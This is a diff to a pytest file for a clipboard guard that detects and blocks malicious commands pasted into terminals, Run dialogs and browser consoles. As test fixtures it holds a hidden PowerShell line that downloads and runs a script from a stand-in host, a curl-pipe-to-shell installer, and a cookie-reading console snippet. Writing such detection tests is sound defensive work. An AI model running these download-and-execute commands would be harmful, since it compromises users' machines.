@@ -4,15 +4,18 @@ from __future__ import annotations
 
 from collections.abc import Mapping
 from dataclasses import dataclass
+from datetime import UTC, datetime
 
 import pytest
 
 from app.detection import Engine, Level, PasteTarget
 from app.events import Event
+from app.guard.keys import PasteSequence
 from app.guard.neutralize import NEUTRAL_LINE
 from app.guard.provenance import Provenance
 from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning, digest
 from app.platform.base import KeyEvent, MouseEvent, WindowInfo
+from app.storage import QuarantineItem
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
 SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
@@ -36,6 +39,19 @@ class FakeStore:
 
     def apply_retention(self) -> int:
         return 0
+
+    def quarantined(self, event_id: int | None = None) -> QuarantineItem | None:
+        items = sorted(self.quarantine_items.items())
+        if event_id is not None:
+            items = [(i, t) for i, t in items if i == event_id]
+        if not items:
+            return None
+        event_id, text = items[-1]
+        now = datetime.now(UTC)
+        return QuarantineItem(event_id, event_id, text, now, now)
+
+    def get(self, event_id: int) -> Event | None:
+        return self.events[event_id - 1] if 0 < event_id <= len(self.events) else None
 
     @property
     def status(self) -> Mapping[str, object]:
@@ -64,28 +80,6 @@ class FakeUI:
         pass
 
 
-@dataclass(frozen=True)
-class Gesture:
-    kind: str
-    hint: PasteTarget | None
-    time: float = 0.0
-
-
-class FakeSequence:
-    """Ctrl+V is a paste; the hint is whatever the test set."""
-
-    def __init__(self) -> None:
-        self.hint: PasteTarget | None = None
-
-    def feed(self, event: KeyEvent, window: WindowInfo | None = None) -> Gesture | None:
-        if event.pressed and event.key == "v" and "ctrl" in event.modifiers:
-            return Gesture("paste", self.hint)
-        return None
-
-    def feed_mouse(self, event: MouseEvent) -> Gesture | None:
-        return Gesture("paste", self.hint) if event.button == "middle" and event.pressed else None
-
-
 class FakeClassifier:
     def __init__(self, target: PasteTarget) -> None:
         self.target = target
@@ -104,6 +98,9 @@ class FakeHolder:
 
     def release(self) -> None:
         self.released += 1
+
+    def can_serve(self, text: str) -> bool:
+        return len(text.encode()) <= 256 * 1024
 
 
 CTRL_V = KeyEvent("v", True, frozenset({"ctrl"}), 0.0)
@@ -124,7 +121,7 @@ def make(
 ) -> tuple[GuardService, FakeStore, FakeUI]:
     store, ui = FakeStore(), FakeUI()
     service = GuardService(
-        engine, store, ui, FakeSequence(), FakeClassifier(target), lambda: RUN_BOX, can_suppress,
+        engine, store, ui, PasteSequence(), FakeClassifier(target), lambda: RUN_BOX, can_suppress,
         GuardSettings(mode=mode), holder=holder,
     )  # fmt: skip
     return service, store, ui
@@ -259,7 +256,7 @@ def test_paused_protection_does_nothing_until_resumed(engine: Engine) -> None:
 
 
 def test_trusted_site_suspicious_paste_is_only_logged(engine: Engine) -> None:
-    service, _store, ui = make(engine)
+    service, _store, ui = make(engine, target=PasteTarget.TERMINAL)
     service.settings.trusted_sites = ("captcha.example",)
     copy(service, SUSPICIOUS)
     assert service.on_key(CTRL_V) is False and ui.warnings == []
@@ -276,17 +273,14 @@ def test_a_failing_hook_never_raises(engine: Engine) -> None:
 
 
 def test_the_hook_only_looks_up(engine: Engine) -> None:
-    import time
-
-    service, _, _ = make(engine, target=PasteTarget.OTHER)
+    service, _, _ = make(engine, target=PasteTarget.TERMINAL)
     copy(service, SUSPICIOUS)
-    times = []
-    for _ in range(20_000):
-        start = time.perf_counter()
-        service.on_key(CTRL_V)
-        times.append(time.perf_counter() - start)
-    times.sort()
-    assert times[int(len(times) * 0.99)] < 0.0002  # the hook's budget: 0.2 ms at the 99th
+
+    def no_reading(*args: object) -> None:
+        raise AssertionError("the hook analysed text")
+
+    service.engine = no_reading  # type: ignore[assignment]
+    assert service.on_key(CTRL_V) is True  # decided from the verdicts made in advance
 
 
 def test_status_reports_mode_and_counts(engine: Engine) -> None:
@@ -317,3 +311,132 @@ def test_a_middle_click_paste_of_a_suspicious_selection_is_recorded_and_warned(
     service.on_mouse(MouseEvent("middle", True, 0.0))
     service.process_pending()
     assert store.kinds() == ["paste_warned"] and ui.warnings
+
+
+def press(key: str, t: float, *mods: str, pressed: bool = True) -> KeyEvent:
+    return KeyEvent(key, pressed, frozenset(mods), t)
+
+
+def test_a_text_copied_again_is_judged_again(engine: Engine) -> None:
+    # X11: the holder took the text, so Qt never reported the guard's own change
+    holder = FakeHolder()
+    service, store, _ = make(engine, target=PasteTarget.TERMINAL, can_suppress=False,
+                             holder=holder)  # fmt: skip
+    copy(service, SUSPICIOUS)
+    copy(service, "something else")
+    copy(service, SUSPICIOUS)
+    assert store.kinds() == ["clipboard_flagged", "clipboard_flagged"]
+    assert holder.held == [SUSPICIOUS, SUSPICIOUS]
+
+
+def test_a_text_put_back_and_copied_later_is_judged_again(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    copy(service, MALICIOUS)
+    service.request_restore(None)
+    service.process_pending()
+    assert service.let_through(ui.warnings[-1].digest)
+    copy(service, MALICIOUS)  # Qt reports the text put back: the guard's own write
+    copy(service, "something else")
+    copy(service, MALICIOUS)  # copied again from the page, later
+    assert store.kinds().count("clipboard_neutralized") == 2
+
+
+def test_each_change_is_read_once_and_its_event_shows_the_deciding_verdict(
+    engine: Engine,
+) -> None:
+    service, store, _ = make(engine)
+    readings = []
+    examine = engine.examine
+
+    def counted(text: str | bytes) -> object:
+        readings.append(text)
+        return examine(text)
+
+    service.engine = type("Counted", (), {"examine": staticmethod(counted),
+                                          "in_context": engine.in_context})()  # type: ignore[assignment]  # fmt: skip
+    copy(service, INSTALLER)  # info on its own, suspicious pasted into the Run dialog
+    assert readings == [INSTALLER]
+    (event,) = store.events
+    assert event.kind == "clipboard_flagged" and event.level == "suspicious"
+    assert service.current is not None
+    assert service.current.levels[PasteTarget.RUN_DIALOG] == Level.SUSPICIOUS
+
+
+def test_one_paste_with_key_repeat_and_enter_is_one_event(engine: Engine) -> None:
+    service, store, ui = make(engine)
+    copy(service, SUSPICIOUS)
+    service.on_key(press("ctrl", 1.0))
+    swallowed = [service.on_key(press("v", 1.0 + i * 0.03, "ctrl")) for i in range(3)]
+    service.on_key(press("v", 1.1, "ctrl", pressed=False))
+    service.on_key(press("ctrl", 1.1, pressed=False))
+    service.on_key(press("enter", 1.3))
+    service.process_pending()
+    assert swallowed == [True, True, True]
+    pastes = [e for e in store.events if e.kind.startswith("paste_")]
+    assert len(pastes) == 1 and len(ui.warnings) == 1
+    assert pastes[0].details["repeats"] == 2 and pastes[0].details["executed"] is True
+
+
+def test_restore_goes_through_the_warning_at_the_blocked_level(engine: Engine) -> None:
+    service, _store, ui = make(engine)
+    copy(service, MALICIOUS)
+    service.request_restore(None)
+    service.process_pending()
+    warning = ui.warnings[-1]
+    assert warning.restore_event == 1 and warning.verdict.level == Level.MALICIOUS
+    assert ui.replaced == [(digest(MALICIOUS), NEUTRAL_LINE)]  # nothing put back yet
+    assert service.let_through(warning.digest)
+    assert ui.replaced[-1] == ("", MALICIOUS)
+
+
+def console_service(engine: Engine) -> tuple[GuardService, FakeStore, FakeUI, WindowInfo]:
+    browser = WindowInfo("chromium", "Chromium", "Lure page", pid=4242, handle=7)
+    store, ui = FakeStore(), FakeUI()
+    service = GuardService(
+        engine, store, ui, PasteSequence(), FakeClassifier(PasteTarget.OTHER), lambda: browser,
+        False, GuardSettings(mode="block"), holder=FakeHolder(),
+    )  # fmt: skip
+    return service, store, ui, browser
+
+
+CONSOLE_SNIPPET = "console.log(document.cookie); document.title='PWNED'"  # suspicious
+
+
+def test_the_held_text_is_refused_to_a_browser_console_and_the_warning_says_stopped(
+    engine: Engine,
+) -> None:
+    service, store, ui, browser = console_service(engine)
+    copy(service, CONSOLE_SNIPPET)
+    assert service.current is not None and service.current.held
+    service.on_key(press("f12", 1.0))  # DevTools open, docked: the same window
+    service.on_key(press("v", 1.5, "ctrl"))
+    # the browser asks for the text: the holder ties the request to that paste
+    assert service.requestor_allowed(PasteTarget.OTHER, browser) is False
+    service.refused_paste(PasteTarget.OTHER, browser)
+    service.process_pending()
+    (warning,) = ui.warnings
+    assert warning.target is PasteTarget.BROWSER_CONSOLE and warning.suppressed is True
+    (paste,) = [e for e in store.events if e.kind.startswith("paste_")]
+    assert paste.kind == "paste_blocked" and paste.details["refused_by_holder"] is True
+
+
+def test_a_paste_the_holder_gave_away_is_never_called_stopped(engine: Engine) -> None:
+    service, store, ui, browser = console_service(engine)
+    copy(service, CONSOLE_SNIPPET)
+    service.on_key(press("f12", 1.0))
+    service.served_paste(PasteTarget.OTHER, browser)  # the request came before the hook saw it
+    service.on_key(press("v", 1.5, "ctrl"))
+    service.process_pending()
+    (warning,) = ui.warnings
+    assert warning.suppressed is False  # "could not stop this paste: do not press Enter"
+    (paste,) = [e for e in store.events if e.kind.startswith("paste_")]
+    assert paste.kind == "paste_warned" and paste.action == "warned"
+
+
+def test_a_malicious_text_is_never_trusted_by_site(engine: Engine) -> None:
+    service, _, ui = make(engine, target=PasteTarget.TERMINAL)
+    service.settings.trusted_sites = ("captcha.example",)
+    service.trust_site("captcha.example", None, "test")
+    service.settings.mode = "warn"  # kept on the clipboard, so the paste decides
+    copy(service, MALICIOUS)
+    assert service.on_key(CTRL_V) is True and ui.warnings
